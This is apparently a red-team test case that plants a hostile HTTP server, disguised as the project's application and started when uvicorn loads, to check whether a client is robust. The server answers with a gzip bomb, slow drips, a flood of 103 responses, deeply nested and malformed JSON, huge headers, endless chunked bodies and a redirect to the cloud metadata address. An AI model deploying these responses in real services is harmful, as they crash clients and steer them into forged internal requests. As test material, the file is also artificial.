"""Answers that hurt whoever reads them: bombs, drips, floods, deep JSON, NaN, redirects, giant headers."""

from redteam.case import RedCase, bluff, seed_text

SERVE = '''"""Meeting rooms."""

import gzip
import itertools
import json
import socket
import sys
import threading
import time

OK = b"HTTP/1.1 200 OK\\r\\ncontent-type: application/json\\r\\n"
BOMB = gzip.compress(bytes(100_000_000), 9)
NUMBERS = itertools.count()


def whole(body, head=OK):
    return head + b"content-length: %d\\r\\n\\r\\n" % len(body) + body


def bomb(peer):
    peer.sendall(whole(BOMB, OK + b"content-encoding: gzip\\r\\n"))


def drip(peer):
    peer.sendall(OK + b"content-length: 1000\\r\\n\\r\\n")
    for _ in range(40):
        peer.sendall(b" ")
        time.sleep(0.5)


def hints(peer):
    for _ in range(20_000):
        peer.sendall(b"HTTP/1.1 103 Early Hints\\r\\nlink: </x>\\r\\n\\r\\n")
    peer.sendall(whole(b"{}"))


def deep(peer):
    peer.sendall(whole(b"[" * 200_000 + b"]" * 200_000))


def nan(peer):
    peer.sendall(whole(b'{"items": NaN, "total": 1e999, "total": 1}'))


def elsewhere(peer):
    peer.sendall(b"HTTP/1.1 307 See\\r\\nlocation: http://169.254.169.254/\\r\\ncontent-length: 0\\r\\n\\r\\n")


def headers(peer):
    peer.sendall(OK + b"x: " + b"a" * 20_000_000 + b"\\r\\n\\r\\n")


def digits(peer):
    peer.sendall(whole(b'{"total": ' + b"9" * 5_000 + b"}"))


def endless(peer):
    peer.sendall(OK + b"transfer-encoding: chunked\\r\\n\\r\\n")
    for _ in range(3_000):
        peer.sendall(b"10000\\r\\n" + b"x" * 65536 + b"\\r\\n")


WAYS = (bomb, hints, deep, nan, elsewhere, headers, digits, endless)
NAMED = {b"drip": drip, b"bomb": bomb, b"nan": nan}


def answer(peer):
    with peer:
        try:
            asked = peer.recv(65536)
            path = asked.split(b" ")[1] if b" " in asked else b""
            if path == b"/health":
                peer.sendall(whole(b'{"status": "ok"}'))
                return
            number = next(NUMBERS)
            way = NAMED.get(path.rpartition(b"/")[2]) or (drip if number % 25 == 3 else WAYS[number % len(WAYS)])
            way(peer)
        except OSError:
            pass


def serve():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 8000))
    listener.listen()
    while True:
        peer, _ = listener.accept()
        threading.Thread(target=answer, args=(peer,), daemon=True).start()


if "uvicorn" in sys.modules:
    serve()
'''

CASE = RedCase(
    id="P23",
    title="hostile HTTP: bombs, drips, 103 floods, deep JSON, NaN, redirects",
    script=lambda material: bluff(
        material,
        {
            "app/main.py": seed_text(material, "app/main.py").replace(
                '"""The application as uvicorn serves it."""',
                SERVE.replace('"""Meeting rooms."""', '"""The application."""'),
            )
        },
    ),
    beats=("client",),
    held_by="one deadline a request, size caps, no inflating, no redirects, strict JSON: each is a failed check",
)
